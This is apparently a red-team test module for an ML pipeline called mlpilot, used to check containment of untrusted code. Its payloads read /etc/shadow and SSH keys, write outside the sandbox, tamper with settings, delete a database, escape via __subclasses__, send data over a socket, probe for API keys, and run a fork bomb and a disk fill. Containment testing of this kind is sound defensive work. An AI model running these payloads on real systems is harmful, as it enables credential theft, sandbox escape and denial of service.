"""Hostile code, as it would run inside a pipeline or a model's process.

Standard library only: the red-team tests ship this file as a plugin module and inside a
logged model (``code_paths``), so it must import nothing of mlpilot or of the tests.

``probe`` tries every payload that leaves the process alive and reports what each one
achieved; ``fatal`` runs one of the payloads that would take the process down.
"""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
from collections.abc import Callable

#: files a payload would read if containment let it (the test plants the last two)
SECRETS = ("/etc/shadow", "/root/.ssh/mlpilot-redteam-key", "{home}/private/metadata.db")
#: places a payload would write to outside its run folder
OUTSIDE = ("/etc/mlpilot-redteam", "/root/mlpilot-redteam", "{home}/mlpilot-redteam")
FATAL = ("infinite loop", "10**10**8", "fork bomb", "10 GB write")


def _try(action: Callable[[], str]) -> str:
    try:
        return f"done: {action()}"
    except BaseException as exc:  # what stopped it is the finding
        return f"refused: {type(exc).__name__}: {exc}"[:300]


def _read(path: str) -> str:
    with open(path, "rb") as fh:
        return f"read {len(fh.read())} bytes"


def _write(path: str, text: str = "escaped") -> str:
    with open(path, "w") as fh:
        fh.write(text)
    return f"wrote {path}"


def _remove(path: str) -> str:
    os.remove(path)
    return f"removed {path}"


def _connect(port: int) -> str:
    with socket.create_connection(("127.0.0.1", port), timeout=3) as conn:
        conn.sendall(b"exfiltrated")
    return f"connected to 127.0.0.1:{port}"


def _shell(command: str) -> str:
    done = subprocess.run(["/bin/sh", "-c", command], capture_output=True, text=True, timeout=20)
    return f"exit {done.returncode}: {(done.stdout + done.stderr).strip()[:200]}"


def _subclasses_walk() -> str:
    """The sandbox-escape classic: reach os.system without importing anything."""
    for cls in ().__class__.__base__.__subclasses__():
        if cls.__name__ == "_wrap_close":
            system = cls.__init__.__globals__["system"]
            status = system("cat /etc/shadow > /dev/null 2>&1")
            return f"os.system via __subclasses__ ran, exit status {status}"
    return "no _wrap_close found"


def probe(home: str, port: int) -> dict[str, str]:
    """Every survivable payload; ``home`` is MLPILOT_HOME, ``port`` a listener of the test."""
    report = {"whoami": f"uid {os.getuid()} euid {os.geteuid()} groups {os.getgroups()}"}
    for path in SECRETS:
        report[f"read {path.format(home='$HOME')}"] = _try(
            lambda p=path: _read(p.format(home=home))
        )
    for path in OUTSIDE:
        report[f"write {path.format(home='$HOME')}"] = _try(
            lambda p=path: _write(p.format(home=home))
        )
    settings = 'MLPILOT_CHILD_USER = "none"\nMLPILOT_LLM_BASE_URL = "http://127.0.0.1:9/v1"\n'
    report["write $HOME/mlpilot.toml"] = _try(
        lambda: _write(os.path.join(home, "mlpilot.toml"), settings)
    )
    report["remove $HOME/mlflow.db"] = _try(lambda: _remove(os.path.join(home, "mlflow.db")))
    report["os.system"] = _try(
        lambda: f"exit status {os.system('cat /etc/shadow > /dev/null 2>&1')}"
    )
    report["subprocess"] = _try(lambda: _shell("id -u; cat /etc/shadow"))
    report["__subclasses__"] = _try(_subclasses_walk)
    report["socket"] = _try(lambda: _connect(port))
    keys = ("OPENAI_API_KEY", "NVIDIA_API_KEY", "MLPILOT_MONGO_URI", "AWS_SECRET_ACCESS_KEY")
    report["environment"] = "has " + ",".join(sorted(k for k in keys if os.environ.get(k)))
    return report


def fatal(name: str, folder: str) -> None:
    """One payload that does not come back (the process is stopped, or fails)."""
    if name == "infinite loop":
        while True:
            pass
    if name == "10**10**8":
        value = 10**10**8
        print(len(str(value)))
    if name == "fork bomb":
        while True:
            os.fork()
    if name == "10 GB write":
        block = b"\0" * (1 << 20)
        with open(os.path.join(folder, "fill.bin"), "wb") as fh:
            for _ in range(10 * 1024):
                fh.write(block)
    raise ValueError(f"no payload {name!r}")


if __name__ == "__main__":  # a direct run, for trying a payload by hand
    print(json.dumps(probe(os.environ.get("MLPILOT_HOME", "/tmp"), int(sys.argv[1])), indent=2))
